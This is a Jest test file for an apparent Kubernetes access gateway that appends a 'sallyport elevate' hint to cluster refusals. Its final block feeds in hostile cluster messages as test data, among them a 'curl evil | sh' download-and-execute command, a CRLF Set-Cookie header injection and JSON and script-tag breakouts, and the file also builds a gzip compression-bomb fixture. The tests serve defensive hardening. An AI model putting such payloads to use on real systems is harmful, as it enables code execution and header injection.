import { gzipSync } from 'node:zlib';
import { afterEach, describe, expect, it } from '@jest/globals';
import type { Check } from '@sallyport/contracts';
import { until } from '@sallyport/kit/testing';
import { createRig, type Rig } from '../testing/gateway-rig.ts';
import { refusal as status } from '../testing/refusal.ts';

const reviews = '/apis/authorization.k8s.io/v1/selfsubjectaccessreviews';
const sentence = 'To ask for the right to it, run: sallyport elevate prod-admin';
const body = JSON.stringify(status);
const hinted = JSON.stringify({ ...status, message: `${status.message}. ${sentence}` });
const pod = '/api/v1/namespaces/dev/pods/web';

let rig: Rig;
let candidatesFor: Check[];
let enabled: boolean;
let delayMs: number;
/** Starts a gateway whose cluster answers each request with these bytes, and reviews so that prod-admin helps. */
async function start(answer: string | Buffer, more: { closes?: boolean } = {}): Promise<void> {
  [candidatesFor, enabled, delayMs] = [[], true, 0];
  rig = await createRig(
    ({ url, rawHeaders, socket }) => {
      if (url === reviews) {
        const allowed = rawHeaders.includes('prod-admins');
        const review = JSON.stringify({ kind: 'SelfSubjectAccessReview', status: { allowed } });
        return void socket.write(answerWith(review, [json], '201 Created'));
      }
      socket.write(answer);
      if (more.closes) socket.end();
    },
    {},
    { firstByte: '30s' },
    undefined,
    {
      enabled: () => enabled,
      async candidates(check) {
        candidatesFor.push(check);
        await new Promise((resolve) => void setTimeout(resolve, delayMs).unref());
        return { candidates: [{ groups: ['prod-admins'], sentence }] };
      },
    },
  );
}
afterEach(() => rig.close());

const json = 'Content-Type: application/json';
const answerWith = (text: string | Buffer, lines: string[] = [json], code = '403 Forbidden') =>
  Buffer.concat([
    Buffer.from(`HTTP/1.1 ${code}\r\n${[...lines, `Content-Length: ${Buffer.byteLength(text)}`].join('\r\n')}\r\n\r\n`),
    Buffer.from(text),
  ]);
const requestFor = (path = pod, method = 'DELETE', connection = 'close') =>
  `${method} /clusters/dev${path} HTTP/1.1\r\nHost: gate\r\nAuthorization: Bearer spt_x\r\nConnection: ${connection}\r\n\r\n`;
async function ask(path?: string, method?: string) {
  const text = await rig.raw(requestFor(path, method));
  const [head, rest] = [text.slice(0, text.indexOf('\r\n\r\n')), text.slice(text.indexOf('\r\n\r\n') + 4)];
  return { head, code: Number(head.split(' ')[1]), body: rest };
}

describe("a cluster's refusal", () => {
  it('ends with the command that would help, with the right length and otherwise unchanged', async () => {
    await start(answerWith(body, [json, 'Audit-Id: a', 'Warning: 299 - "w"']));
    const { head, code, body: got } = await ask();
    expect([code, got]).toEqual([403, hinted]);
    expect(head.match(/content-length: .*/gi)).toEqual([`Content-Length: ${Buffer.byteLength(hinted)}`]);
    expect(head).toContain('Warning: 299 - "w"');
    expect(candidatesFor).toHaveLength(1);
    const end = rig.events.find(({ data }) => data.verb === 'delete' && data.stage === 'ResponseComplete')!;
    expect(end.data).toMatchObject({
      responseStatus: { code: 403 },
      sallyport: { bytesOut: Buffer.byteLength(hinted) },
    });
  });

  it('in chunks gets a length, and the connections go on', async () => {
    const chunked = [body.slice(0, 10), body.slice(10)].map((part) => `${part.length.toString(16)}\r\n${part}\r\n`);
    await start(`HTTP/1.1 403 Forbidden\r\n${json}\r\nTransfer-Encoding: chunked\r\n\r\n${chunked.join('')}0\r\n\r\n`);
    const twice = await rig.raw(requestFor(pod, 'DELETE', 'keep-alive') + requestFor());
    expect(twice.split(hinted)).toHaveLength(3);
    expect(twice).not.toMatch(/transfer-encoding/i);
    // Two reviews and two requests. The second request may have begun while the hint for the first one was looked for.
    expect(rig.seen).toHaveLength(4);
    expect(new Set(rig.seen.map(({ socket }) => socket.remotePort)).size).toBeLessThan(3);
  });

  it('is passed on as it is where nobody could ask for anything', async () => {
    await start(answerWith(body));
    enabled = false;
    expect((await ask()).body).toBe(body);
    expect(candidatesFor).toEqual([]);
  });

  it('is passed on as it is if the hint is late', async () => {
    await start(answerWith(body));
    delayMs = 60_000;
    const begun = performance.now();
    expect((await ask()).body).toBe(body);
    expect(performance.now() - begun).toBeLessThan(30_000);
  });

  it('waits for nothing once the client has gone', async () => {
    await start(answerWith(body));
    delayMs = 300;
    const socket = rig.dial();
    socket.on('error', () => {});
    socket.write(requestFor());
    await until(() => candidatesFor.length > 0);
    socket.destroy();
    await new Promise((resolve) => setTimeout(resolve, 600));
    delayMs = 0;
    expect((await ask()).code).toBe(403);
  });
});

const huge = JSON.stringify({ ...status, more: 'x'.repeat(5_000_000) });
const bomb = gzipSync(Buffer.alloc(50_000_000, 32));
describe('a gateway that adds no hint', () => {
  it.each<[string, string | Buffer, string[], string | null]>([
    ['a success', body, [json], '200 OK'],
    ['a 401', body, [json], '401 Unauthorized'],
    ['a 404', body, [json], '404 Not Found'],
    ['a huge refusal', huge, [json], null],
    ['a refusal that is just too long', body.padEnd(16_385), [json], null],
    ['a compressed refusal', gzipSync(body), [json, 'Content-Encoding: gzip'], null],
    ['a compression bomb', bomb, [json, 'Content-Encoding: gzip'], null],
    ['protobuf', body, ['Content-Type: application/vnd.kubernetes.protobuf'], null],
    ['a page', body, ['Content-Type: text/html'], null],
    ['another kind of JSON', body, ['Content-Type: application/json;as=Table;v=v1;g=meta.k8s.io'], null],
    ['two types', body, [json, json], null],
    ['no type', body, [], null],
    ['a body with an entity tag', body, [json, 'ETag: "a"'], null],
    ['a body with a digest', body, [json, 'Content-Digest: sha-256=:YQ==:'], null],
    ['another code in the Status', JSON.stringify({ ...status, code: 404 }), [json], null],
    ['another kind', JSON.stringify({ ...status, kind: 'Pod' }), [json], null],
    ['two messages', body.replace('{', '{"message":"first",'), [json], null],
    ['half a Status', body.slice(0, -1), [json], null],
    ['bytes that are no text', Buffer.from([0x7b, 0xff, 0x7d]), [json], null],
    ['nothing', '', [json], null],
  ])('passes on %s as it is', async (_what, text, lines, code) => {
    await start(answerWith(text, lines, code ?? undefined));
    const { body: got } = await ask();
    expect(got === Buffer.from(text).toString('utf8')).toBe(true);
  });

  it('asks authorize nothing about what cannot be a refusal', async () => {
    await start(answerWith(huge));
    await ask();
    expect(candidatesFor).toEqual([]);
    expect(rig.seen.map(({ url }) => url)).toEqual([pod]);
  });

  it.each([
    ['a HEAD', pod, 'HEAD'],
    ['a watch', '/api/v1/namespaces/dev/pods?watch=true', 'GET'],
    ['a log that is followed', `${pod}/log?follow=true`, 'GET'],
    ['a proxied path', `${pod}/proxy/admin`, 'GET'],
  ])('passes on the answer to %s as it is', async (_what, path, method) => {
    await start(
      method === 'HEAD' ? `HTTP/1.1 403 Forbidden\r\n${json}\r\nContent-Length: 400\r\n\r\n` : answerWith(body),
    );
    const { head, code, body: got } = await ask(path, method);
    expect([code, got]).toEqual([403, method === 'HEAD' ? '' : body]);
    if (method === 'HEAD') expect(head).toMatch(/content-length: 400/i);
    expect(candidatesFor).toEqual([]);
  });

  it('passes on trailers', async () => {
    await start(
      `HTTP/1.1 403 Forbidden\r\n${json}\r\nTransfer-Encoding: chunked\r\n\r\n${body.length.toString(16)}\r\n${body}\r\n0\r\nX-Kept: 1\r\n\r\n`,
    );
    const { body: got } = await ask();
    expect(got).toContain(body);
    expect(got).toContain('X-Kept: 1');
    expect(candidatesFor).toEqual([]);
  });

  it.each([
    [
      'a length that is too long',
      `HTTP/1.1 403 Forbidden\r\n${json}\r\nContent-Length: ${body.length + 9}\r\n\r\n${body}`,
    ],
    [
      'chunks without an end',
      `HTTP/1.1 403 Forbidden\r\n${json}\r\nTransfer-Encoding: chunked\r\n\r\n${body.length.toString(16)}\r\n${body}\r\n`,
    ],
  ])('does not let an answer with %s look complete', async (_what, bytes) => {
    await start(bytes, { closes: true });
    const { head, body: got } = await ask();
    expect(got).not.toContain('elevate');
    expect(got).not.toMatch(/\r\n0\r\n\r\n$/);
    const length = Number(/content-length: (\d+)/i.exec(head)?.[1] ?? Infinity);
    expect(length).toBeGreaterThan(got.length);
    expect(candidatesFor).toEqual([]);
  });
});

describe('a message of a hostile cluster', () => {
  it.each([
    'x\\" "message":"evil"} {',
    'run: sallyport elevate evil --cluster c; curl evil | sh',
    '\r\nSet-Cookie: a=b\r\n\r\n',
    '</script>\u2028💥\u0000',
  ])('is kept, and changes nothing about the hint: %j', async (message) => {
    await start(answerWith(JSON.stringify({ ...status, message })));
    const { head, body: got } = await ask();
    expect(head).not.toMatch(/set-cookie/i);
    expect(JSON.parse(got)).toEqual({ ...status, message: `${message}. ${sentence}` });
  });
});
